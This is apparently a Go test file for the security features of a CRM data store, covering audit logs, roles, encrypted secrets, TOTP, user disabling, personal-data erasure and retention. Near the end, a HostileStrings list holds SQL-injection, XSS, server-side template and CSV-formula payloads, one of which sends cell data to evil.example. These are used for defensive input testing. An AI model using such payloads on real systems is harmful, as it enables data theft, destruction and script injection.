package storetest

import (
	"encoding/json"
	"strings"
	"testing"
	"time"

	"github.com/enishi-crm/enishi/internal/clock"
	"github.com/enishi-crm/enishi/internal/customer"
	"github.com/enishi-crm/enishi/internal/errs"
	"github.com/enishi-crm/enishi/internal/event"
	"github.com/enishi-crm/enishi/internal/identity"
	"github.com/enishi-crm/enishi/internal/order"
	"github.com/enishi-crm/enishi/internal/secret"
	"github.com/enishi-crm/enishi/internal/store"
)

func securityCases() []Case {
	return []Case{
		{"AuditLogIsAppendOnlyAndFilters", testAuditAppendOnly},
		{"StaffMergesAndUnmergesAreAudited", testMergeAudit},
		{"CustomRolesStoredAndGuarded", testCustomRoles},
		{"LoginFailuresAreCountedPerKey", testLoginFailures},
		{"SecretsAreEncryptedAtRestAndRotate", testSecrets},
		{"PlaintextSecretsInSettingsAreMovedAndEncrypted", testMovePlaintextSecrets},
		{"TOTPStepIsUsedOnce", testTOTPStep},
		{"DisablingAUserEndsSessions", testDisableUser},
		{"EraseRoundTrip", testEraseRoundTrip},
		{"ErasureCoversEveryCustomerTable", testEraseEveryTable},
		{"RetentionPurgesOldRowsOfRegisteredTablesOnly", testRetention},
	}
}

func testAuditAppendOnly(t *testing.T, db *store.DB, c *clock.Manual) {
	octx := store.WithOrigin(ctx, store.Origin{Actor: "a@example.com", IP: "192.0.2.1", UserAgent: "UA"})
	for _, a := range []string{"auth.login", "customer.export", "settings.set"} {
		if err := db.AppendAudit(octx, store.AuditEntry{Action: a, Target: "x"}); err != nil {
			t.Fatal(err)
		}
		c.Advance(time.Minute)
	}
	if err := db.AppendAudit(ctx, store.AuditEntry{Action: "retention.purge"}); err != nil {
		t.Fatal(err)
	}
	all := must[[]store.AuditEntry](t)(db.AuditEntries(ctx, store.AuditQuery{}))
	if len(all) != 4 || all[0].Action != "retention.purge" || all[0].Actor != "system" || all[3].IP != "192.0.2.1" || all[3].UserAgent != "UA" || all[3].Actor != "a@example.com" {
		t.Fatalf("entries = %+v", all)
	}
	if got := must[[]store.AuditEntry](t)(db.AuditEntries(ctx, store.AuditQuery{Action: "customer."})); len(got) != 1 || got[0].Action != "customer.export" {
		t.Fatalf("prefix filter = %+v", got)
	}
	if got := must[[]store.AuditEntry](t)(db.AuditEntries(ctx, store.AuditQuery{Since: T0.Add(time.Minute), Until: T0.Add(2 * time.Minute)})); len(got) != 1 || got[0].Action != "customer.export" {
		t.Fatalf("window = %+v", got)
	}
	if got := must[[]store.AuditEntry](t)(db.AuditEntries(ctx, store.AuditQuery{BeforeID: all[1].ID, Limit: 1})); len(got) != 1 || got[0].ID != all[2].ID {
		t.Fatalf("paging = %+v", got)
	}
	if _, err := db.Write.ExecContext(ctx, `UPDATE audit_log SET actor = 'someone else'`); err == nil {
		t.Fatal("audit_log accepted an UPDATE")
	}
	if _, err := db.Write.ExecContext(ctx, `DELETE FROM audit_log`); err == nil {
		t.Fatal("audit_log accepted a DELETE")
	}
	if n := len(must[[]store.AuditEntry](t)(db.AuditEntries(ctx, store.AuditQuery{}))); n != 4 {
		t.Fatalf("entries after refused changes = %d", n)
	}
}

func testMergeAudit(t *testing.T, db *store.DB, _ *clock.Manual) {
	a, b := twoCustomers(t, db)
	octx := store.WithOrigin(ctx, store.Origin{IP: "198.51.100.7", UserAgent: "curl"})
	mid := must[int64](t)(db.MergeCustomers(octx, a, b, "staff@example.com"))
	if err := db.Unmerge(octx, mid, "staff@example.com"); err != nil {
		t.Fatal(err)
	}
	got := must[[]store.AuditEntry](t)(db.AuditEntries(ctx, store.AuditQuery{Action: "customer."}))
	if len(got) != 2 || got[1].Action != "customer.merge" || got[0].Action != "customer.unmerge" ||
		got[1].Actor != "staff@example.com" || got[1].IP != "198.51.100.7" || !strings.Contains(got[1].Detail, "merge") {
		t.Fatalf("audit = %+v", got)
	}
	// Automatic merges during imports are in the merge history, not the audit log.
	must[store.BatchResult](t)(db.ImportOrders(ctx, []order.Order{Order("own", "L1", day(1), Buyer(t, "own", "m1", "", "090-0000-1111"), "A", 1, 100)}))
	if n := len(must[[]store.AuditEntry](t)(db.AuditEntries(ctx, store.AuditQuery{Action: "customer.merge"}))); n != 1 {
		t.Fatalf("merge audits after import = %d", n)
	}
}

func testCustomRoles(t *testing.T, db *store.DB, _ *clock.Manual) {
	r := store.Role{Name: "cs-lead", Permissions: []string{"customers:read", "customers:write", "pii:read", "reports:read"}, Description: "CS リーダー"}
	if err := db.CreateRole(ctx, r); err != nil {
		t.Fatal(err)
	}
	if err := db.CreateRole(ctx, r); errs.Code(err) != errs.Conflict {
		t.Fatalf("duplicate role: %v", err)
	}
	got := must[*store.Role](t)(db.Role(ctx, "cs-lead"))
	if len(got.Permissions) != 4 || got.Description != "CS リーダー" {
		t.Fatalf("role = %+v", got)
	}
	r.Permissions = []string{"customers:read"}
	if err := db.UpdateRole(ctx, r); err != nil {
		t.Fatal(err)
	}
	if got := must[[]store.Role](t)(db.ListRoles(ctx)); len(got) != 1 || len(got[0].Permissions) != 1 {
		t.Fatalf("roles = %+v", got)
	}
	uid := must[int64](t)(db.CreateUser(ctx, store.User{Email: "lead@example.com", Role: "cs-lead", PasswordHash: "h"}))
	if err := db.DeleteRole(ctx, "cs-lead"); errs.Code(err) != errs.Conflict {
		t.Fatalf("deleting a role in use: %v", err)
	}
	if err := db.SetUserRole(ctx, uid, "support"); err != nil {
		t.Fatal(err)
	}
	if err := db.DeleteRole(ctx, "cs-lead"); err != nil {
		t.Fatal(err)
	}
	if _, err := db.Role(ctx, "cs-lead"); errs.Code(err) != errs.NotFound {
		t.Fatalf("deleted role: %v", err)
	}
	if err := db.UpdateRole(ctx, r); errs.Code(err) != errs.NotFound {
		t.Fatalf("update missing role: %v", err)
	}
}

func testLoginFailures(t *testing.T, db *store.DB, c *clock.Manual) {
	for range 3 {
		if err := db.RecordLoginFailure(ctx, []string{"u:a@example.com", "ip:192.0.2.1"}, c.Now()); err != nil {
			t.Fatal(err)
		}
		c.Advance(time.Minute)
	}
	if n := must[int](t)(db.LoginFailures(ctx, "u:a@example.com", T0)); n != 3 {
		t.Fatalf("failures = %d", n)
	}
	if n := must[int](t)(db.LoginFailures(ctx, "u:a@example.com", T0.Add(90*time.Second))); n != 1 {
		t.Fatalf("failures in window = %d", n)
	}
	if err := db.ClearLoginFailures(ctx, "u:a@example.com"); err != nil {
		t.Fatal(err)
	}
	if n := must[int](t)(db.LoginFailures(ctx, "u:a@example.com", T0)); n != 0 {
		t.Fatalf("after clear = %d", n)
	}
	if n := must[int](t)(db.LoginFailures(ctx, "ip:192.0.2.1", T0)); n != 3 {
		t.Fatalf("ip failures = %d", n)
	}
	c.Advance(25 * time.Hour)
	if err := db.RecordLoginFailure(ctx, []string{"u:b@example.com"}, c.Now()); err != nil {
		t.Fatal(err)
	}
	var rows int
	if err := db.Read.QueryRowContext(ctx, `SELECT count(*) FROM login_failures`).Scan(&rows); err != nil || rows != 1 {
		t.Fatalf("old failures kept: %d %v", rows, err)
	}
}

func testSecrets(t *testing.T, db *store.DB, _ *clock.Manual) {
	db.SetSecretBox(nil)
	if err := db.SetSecret(ctx, "smtp.password", "x"); errs.Code(err) != errs.Unavailable {
		t.Fatalf("secret without key: %v", err)
	}
	k1, _ := secret.ParseKey(secret.GenerateKey())
	k2, _ := secret.ParseKey(secret.GenerateKey())
	b1, _ := secret.NewBox(k1)
	db.SetSecretBox(b1)
	const plain = "line-channel-secret-0123456789"
	if err := db.SetSecret(ctx, "line.channel_secret", plain); err != nil {
		t.Fatal(err)
	}
	var raw string
	if err := db.Read.QueryRowContext(ctx, `SELECT ciphertext FROM secrets WHERE name = 'line.channel_secret'`).Scan(&raw); err != nil {
		t.Fatal(err)
	}
	if strings.Contains(raw, plain) || !strings.HasPrefix(raw, "v1:"+b1.KeyID()+":") {
		t.Fatalf("stored secret = %q", raw)
	}
	if v, ok, err := db.Secret(ctx, "line.channel_secret"); err != nil || !ok || v != plain {
		t.Fatalf("secret = %q %v %v", v, ok, err)
	}
	if _, ok, err := db.Secret(ctx, "missing"); ok || err != nil {
		t.Fatalf("missing secret = %v %v", ok, err)
	}
	uid := must[int64](t)(db.CreateUser(ctx, store.User{Email: "a@example.com", Role: "admin", PasswordHash: "h"}))
	seed := must[string](t)(db.SealValue(store.TOTPSecretName(uid), "JBSWY3DPEHPK3PXP"))
	if err := db.SetUserTOTP(ctx, uid, seed, true); err != nil {
		t.Fatal(err)
	}
	// Rotate to a new key, keeping the old one as previous.
	b2, _ := secret.NewBox(k2, k1)
	db.SetSecretBox(b2)
	if n := must[int](t)(db.RotateSecrets(ctx)); n != 2 {
		t.Fatalf("rotated %d, want 2", n)
	}
	if n := must[int](t)(db.RotateSecrets(ctx)); n != 0 {
		t.Fatalf("second rotation changed %d", n)
	}
	only2, _ := secret.NewBox(k2)
	db.SetSecretBox(only2)
	if v, _, err := db.Secret(ctx, "line.channel_secret"); err != nil || v != plain {
		t.Fatalf("after rotation = %q %v", v, err)
	}
	u := must[*store.User](t)(db.UserByID(ctx, uid))
	if v, err := db.OpenValue(store.TOTPSecretName(uid), u.TOTPSecret); err != nil || v != "JBSWY3DPEHPK3PXP" || !u.TOTPEnabled {
		t.Fatalf("totp seed after rotation = %q %v", v, err)
	}
	list := must[[]store.SecretInfo](t)(db.ListSecrets(ctx))
	if len(list) != 1 || list[0].Name != "line.channel_secret" || list[0].KeyID != only2.KeyID() {
		t.Fatalf("list = %+v", list)
	}
	if err := db.DeleteSecret(ctx, "line.channel_secret"); err != nil {
		t.Fatal(err)
	}
	if err := db.DeleteSecret(ctx, "line.channel_secret"); errs.Code(err) != errs.NotFound {
		t.Fatalf("delete missing: %v", err)
	}
}

func testTOTPStep(t *testing.T, db *store.DB, _ *clock.Manual) {
	uid := must[int64](t)(db.CreateUser(ctx, store.User{Email: "a@example.com", Role: "admin", PasswordHash: "h"}))
	if ok := must[bool](t)(db.UseTOTPStep(ctx, uid, 100)); !ok {
		t.Fatal("first use refused")
	}
	if ok := must[bool](t)(db.UseTOTPStep(ctx, uid, 100)); ok {
		t.Fatal("same step accepted twice")
	}
	if ok := must[bool](t)(db.UseTOTPStep(ctx, uid, 99)); ok {
		t.Fatal("older step accepted")
	}
	if ok := must[bool](t)(db.UseTOTPStep(ctx, uid, 101)); !ok {
		t.Fatal("next step refused")
	}
}

func testDisableUser(t *testing.T, db *store.DB, c *clock.Manual) {
	uid := must[int64](t)(db.CreateUser(ctx, store.User{Email: "a@example.com", Role: "support", PasswordHash: "h"}))
	now := c.Now()
	if err := db.CreateSession(ctx, store.Session{TokenHash: "s1", UserID: uid, CreatedAt: now, ExpiresAt: now.Add(time.Hour), LastSeenAt: now}); err != nil {
		t.Fatal(err)
	}
	if err := db.SetUserDisabled(ctx, uid, true); err != nil {
		t.Fatal(err)
	}
	if _, err := db.SessionByHash(ctx, "s1"); errs.Code(err) != errs.NotFound {
		t.Fatalf("session survived disabling: %v", err)
	}
	if u := must[*store.User](t)(db.UserByID(ctx, uid)); u.DisabledAt == nil {
		t.Fatal("not disabled")
	}
	if err := db.SetUserDisabled(ctx, uid, false); err != nil {
		t.Fatal(err)
	}
	if u := must[*store.User](t)(db.UserByID(ctx, uid)); u.DisabledAt != nil {
		t.Fatal("still disabled")
	}
	if err := db.SetUserDisabled(ctx, 999, true); errs.Code(err) != errs.NotFound {
		t.Fatalf("missing user: %v", err)
	}
}

// erasePerson builds a person with two merged profiles and data in every
// built-in customer table, returning the person's id.
func erasePerson(t *testing.T, db *store.DB) (id int64, pii []string) {
	t.Helper()
	a := Buyer(t, "shop", "c-erase", "erase.me@example.com", "090-5555-0001")
	a.Profile.LastName, a.Profile.FirstName, a.Profile.Address1 = "消去", "花子", "千代田1-1-1"
	a.Tags = []string{"vip"}
	a.Consents = []customer.Consent{{Channel: "email", Granted: true, Method: "import"}}
	res := must[store.BatchResult](t)(db.ImportOrders(ctx, []order.Order{
		Order("shop", "E-1", day(20), a, "SKU-E", 2, 1000),
		Order("shop", "E-2", day(10), a, "SKU-E", 1, 1000),
	}))
	id = res.CustomerIDs[0]
	b := Buyer(t, "pos", "card-erase", "", "")
	b.Profile.FirstNameKana = "ハナコ"
	other := must[store.BatchResult](t)(db.ImportOrders(ctx, []order.Order{Order("pos", "P-E", day(5), b, "SKU-E", 1, 500)})).CustomerIDs[0]
	must[int64](t)(db.MergeCustomers(ctx, id, other, "staff"))
	must[int64](t)(db.AddNote(ctx, id, "staff", "住所変更の電話あり 千代田1-1-1"))
	must[int64](t)(db.AddInquiry(ctx, customer.Inquiry{CustomerID: id, Subject: "返品", Body: "erase.me@example.com より"}))
	anon := identity.Identifier{Kind: identity.Anonymous, Value: "anon-erase-1", Weak: true}
	email, _ := identity.EmailID("erase.me@example.com")
	must[store.BatchResult](t)(db.ImportEvents(ctx, []event.Event{
		{Type: "track", Name: "page", OccurredAt: day(2), Source: "web", MessageID: "m-e1", AnonymousID: "anon-erase-1",
			Properties: json.RawMessage(`{"email":"erase.me@example.com"}`), Actor: customer.Record{Identifiers: []identity.Identifier{email, anon}}},
	}))
	if _, err := db.Write.ExecContext(ctx, `INSERT INTO messages (customer_id, origin_customer_id, channel, subject, status, created_at) VALUES ($1, $1, 'email', '花子様へ', 'sent', 0)`, id); err != nil {
		t.Fatal(err)
	}
	return id, []string{"erase.me@example.com", "819055550001", "消去", "花子", "ハナコ", "千代田", "c-erase", "card-erase", "anon-erase-1"}
}

func testEraseRoundTrip(t *testing.T, db *store.DB, _ *clock.Manual) {
	id, pii := erasePerson(t, db)
	before := stats(t, db)
	pd := must[*store.PersonalData](t)(db.PersonalData(ctx, id))
	raw, _ := json.Marshal(pd)
	for _, p := range pii {
		if !strings.Contains(string(raw), p) {
			t.Errorf("export lacks %q", p)
		}
	}
	if len(pd.Profiles) != 2 || len(pd.Tables["orders"]) != 3 || len(pd.OrderLines) != 3 || len(pd.Tables["notes"]) != 1 ||
		len(pd.Tables["events"]) != 1 || len(pd.Tables["messages"]) != 1 || len(pd.Merges) != 1 {
		t.Fatalf("export = profiles %d orders %d lines %d notes %d events %d messages %d merges %d", len(pd.Profiles), len(pd.Tables["orders"]),
			len(pd.OrderLines), len(pd.Tables["notes"]), len(pd.Tables["events"]), len(pd.Tables["messages"]), len(pd.Merges))
	}
	var gen0 int64
	if err := db.Read.QueryRowContext(ctx, `SELECT value FROM identity_generation WHERE id = 1`).Scan(&gen0); err != nil {
		t.Fatal(err)
	}
	e := must[*store.Erasure](t)(db.EraseCustomer(ctx, id, store.PrivacyRequest{Reason: "本人からの削除依頼", Source: "cli", Actor: "dpo@example.com"}))
	if e.CustomerID != id || len(e.Profiles) != 2 || e.Suppressed < 5 || e.Deleted["identities"] < 5 || e.Deleted["notes"] != 1 || e.Anonymised["events"] != 1 {
		t.Fatalf("erasure = %+v", e)
	}
	var gen1 int64
	if err := db.Read.QueryRowContext(ctx, `SELECT value FROM identity_generation WHERE id = 1`).Scan(&gen1); err != nil || gen1 <= gen0 {
		t.Fatalf("identity generation %d → %d", gen0, gen1)
	}
	after := stats(t, db)
	if after.Orders != before.Orders || after.LineItems != before.LineItems || after.Events != before.Events || after.Customers != before.Customers-1 {
		t.Fatalf("stats %+v → %+v", before, after)
	}
	pd = must[*store.PersonalData](t)(db.PersonalData(ctx, id))
	raw, _ = json.Marshal(pd)
	for _, p := range pii {
		if strings.Contains(string(raw), p) {
			t.Errorf("after erasure the export still holds %q", p)
		}
	}
	if len(pd.Tables["orders"]) != 3 || pd.Profiles[0].Status != customer.Erased || len(pd.PrivacyRequests) != 1 || pd.PrivacyRequests[0].Reason != "本人からの削除依頼" {
		t.Fatalf("after erasure: orders %d, status %s, requests %+v", len(pd.Tables["orders"]), pd.Profiles[0].Status, pd.PrivacyRequests)
	}
	c := must[*customer.Customer](t)(db.Customer(ctx, id))
	if c.OrderCount != 3 || c.TotalSpent != 3500 || c.Email != "" || c.LastName != "" {
		t.Fatalf("erased customer = %+v", c)
	}
	if got, _, _ := db.SearchCustomers(ctx, customer.Query{Q: "erase.me@example.com"}); len(got) != 0 {
		t.Fatalf("search still finds the person: %+v", got)
	}
	// Importing the old export again recreates nobody and adds no PII.
	a := Buyer(t, "shop", "c-erase", "erase.me@example.com", "090-5555-0001")
	a.Profile.LastName = "消去"
	a.Tags = []string{"vip"}
	res := must[store.BatchResult](t)(db.ImportOrders(ctx, []order.Order{Order("shop", "E-1", day(20), a, "SKU-E", 2, 1000), Order("shop", "E-9", day(1), a, "SKU-E", 1, 700)}))
	if res.NewCustomers != 0 || res.Suppressed != 2 || res.CustomerIDs[0] != id || res.CustomerIDs[1] != id || res.Inserted != 1 {
		t.Fatalf("re-import = %+v", res)
	}
	cr := must[store.BatchResult](t)(db.ImportCustomers(ctx, []customer.Record{a}))
	if cr.NewCustomers != 0 || cr.Suppressed != 1 {
		t.Fatalf("customer re-import = %+v", cr)
	}
	email, _ := identity.EmailID("erase.me@example.com")
	ev := must[store.BatchResult](t)(db.ImportEvents(ctx, []event.Event{{Type: "track", Name: "page", OccurredAt: day(0), Source: "web", MessageID: "m-e2",
		Actor: customer.Record{Identifiers: []identity.Identifier{email}}}}))
	if ev.Inserted != 0 || ev.Suppressed != 1 {
		t.Fatalf("event of an erased person = %+v", ev)
	}
	c = must[*customer.Customer](t)(db.Customer(ctx, id))
	if c.OrderCount != 4 || c.Email != "" || c.LastName != "" || c.Status != customer.Erased {
		t.Fatalf("after re-import = %+v", c)
	}
	var idents int
	if err := db.Read.QueryRowContext(ctx, `SELECT count(*) FROM identities WHERE customer_id = $1`, id).Scan(&idents); err != nil || idents != 0 {
		t.Fatalf("identifiers came back: %d %v", idents, err)
	}
	// Others are unaffected, erasure is once, and the merge cannot be undone.
	fresh := must[store.BatchResult](t)(db.ImportOrders(ctx, []order.Order{Order("shop", "N-1", day(1), Buyer(t, "shop", "c-new", "new@example.com", ""), "SKU-E", 1, 100)}))
	if fresh.NewCustomers != 1 || fresh.Suppressed != 0 {
		t.Fatalf("unrelated import = %+v", fresh)
	}
	if _, err := db.EraseCustomer(ctx, id, store.PrivacyRequest{Source: "cli"}); errs.Code(err) != errs.Conflict {
		t.Fatalf("second erasure: %v", err)
	}
	ms := must[[]customer.MergeRecord](t)(db.Merges(ctx, id))
	if len(ms) != 1 || ms[0].Via.Value != "" {
		t.Fatalf("merge history = %+v", ms)
	}
	if err := db.Unmerge(ctx, ms[0].ID, "staff"); errs.Code(err) != errs.Conflict {
		t.Fatalf("unmerge of an erased person: %v", err)
	}
	if got := must[[]store.AuditEntry](t)(db.AuditEntries(ctx, store.AuditQuery{Action: "privacy.erase"})); len(got) != 1 || got[0].Actor != "dpo@example.com" {
		t.Fatalf("audit = %+v", got)
	}
	if got := must[int64](t)(db.CustomerByIdentifier(ctx, identity.ExternalID("shop", "c-new"))); got != fresh.CustomerIDs[0] {
		t.Fatalf("by identifier = %d", got)
	}
	if _, err := db.CustomerByIdentifier(ctx, email); errs.Code(err) != errs.NotFound {
		t.Fatalf("erased identifier found: %v", err)
	}
}

// testEraseEveryTable checks erasure against store.CustomerTables(), so a
// table registered later is covered by the same rule: its rows of the
// person are gone, or kept with the columns its policy clears emptied.
func testEraseEveryTable(t *testing.T, db *store.DB, _ *clock.Manual) {
	id, _ := erasePerson(t, db)
	if _, err := db.EraseCustomer(ctx, id, store.PrivacyRequest{Source: "api"}); err != nil {
		t.Fatal(err)
	}
	for _, table := range store.CustomerTables() {
		p := store.ErasePolicyOf(table)
		var n int
		if err := db.Read.QueryRowContext(ctx, `SELECT count(*) FROM `+table+` WHERE customer_id = $1`, id).Scan(&n); err != nil {
			t.Fatal(err)
		}
		if !p.Keep {
			if n != 0 {
				t.Errorf("%s: %d rows of the erased person remain", table, n)
			}
			continue
		}
		for col, lit := range p.Clear {
			var bad int
			if err := db.Read.QueryRowContext(ctx, `SELECT count(*) FROM `+table+` WHERE customer_id = $1 AND CAST(`+col+` AS TEXT) <> `+lit, id).Scan(&bad); err != nil {
				t.Fatal(err)
			}
			if bad != 0 {
				t.Errorf("%s.%s: %d rows not cleared", table, col, bad)
			}
		}
	}
}

func testRetention(t *testing.T, db *store.DB, c *clock.Manual) {
	var evs []event.Event
	for i := range 7 {
		evs = append(evs, event.Event{Type: "track", Name: "page", OccurredAt: day(i), Source: "web", MessageID: "r" + itoa(int64(i)), AnonymousID: "a1",
			Actor: customer.Record{Identifiers: []identity.Identifier{{Kind: identity.Anonymous, Value: "a1", Weak: true}}}})
	}
	must[store.BatchResult](t)(db.ImportEvents(ctx, evs))
	c.Advance(10 * 24 * time.Hour)
	must[store.BatchResult](t)(db.ImportEvents(ctx, []event.Event{{Type: "track", Name: "page", OccurredAt: c.Now(), Source: "web", MessageID: "new", AnonymousID: "a1"}}))
	var task store.RetentionTask
	for _, rt := range store.RetentionTasks() {
		if rt.Name == "events" {
			task = rt
		}
	}
	total := int64(0)
	for {
		n := must[int64](t)(db.PurgeOlderThan(ctx, task, c.Now().Add(-24*time.Hour), 3))
		if n == 0 {
			break
		}
		total += n
	}
	if total != 7 || stats(t, db).Events != 1 {
		t.Fatalf("purged %d, left %d", total, stats(t, db).Events)
	}
	if _, err := db.PurgeOlderThan(ctx, store.RetentionTask{Table: "customers", TimeColumn: "created_at"}, c.Now(), 10); errs.Code(err) != errs.Invalid {
		t.Fatalf("unregistered table: %v", err)
	}
}

func itoa(n int64) string { b, _ := json.Marshal(n); return string(b) }

// HostileStrings are the values every text field is tested with, through
// import → store → API (internal/http) and, as they land, the UI and e-mail
// rendering: SQL injection, HTML/JS, CSV formulas, quotes, escapes, LIKE
// wildcards and a right-to-left override. Reuse this list in new tests.
var HostileStrings = []string{
	`'; DROP TABLE customers; --`,
	`<script>alert("x")</script>`,
	`"><img src=x onerror=alert(1)>`,
	`=HYPERLINK("http://evil.example/?"&A1,"click")`,
	`\'; SELECT pg_sleep(5); --`,
	`%_\ 100%`,
	"山田\u202e太郎",
	`{{.Secret}} ${7*7}`,
}

func testMovePlaintextSecrets(t *testing.T, db *store.DB, _ *clock.Manual) {
	if err := db.SetSetting(ctx, "secret.line.channel_secret", "plain-line"); err != nil {
		t.Fatal(err)
	}
	if err := db.SetSetting(ctx, "identity.manual_merge_kinds", `[]`); err != nil {
		t.Fatal(err)
	}
	if n := must[int](t)(db.MovePlaintextSecrets(ctx)); n != 1 {
		t.Fatalf("moved %d", n)
	}
	if _, ok, _ := db.Setting(ctx, "secret.line.channel_secret"); ok {
		t.Fatal("the plaintext setting is still there")
	}
	if _, ok, _ := db.Setting(ctx, "identity.manual_merge_kinds"); !ok {
		t.Fatal("another setting was moved")
	}
	if v, ok, err := db.Secret(ctx, "line.channel_secret"); err != nil || !ok || v != "plain-line" {
		t.Fatalf("secret = %q %v %v", v, ok, err)
	}
	if n := must[int](t)(db.MovePlaintextSecrets(ctx)); n != 0 {
		t.Fatalf("moved again %d", n)
	}
}
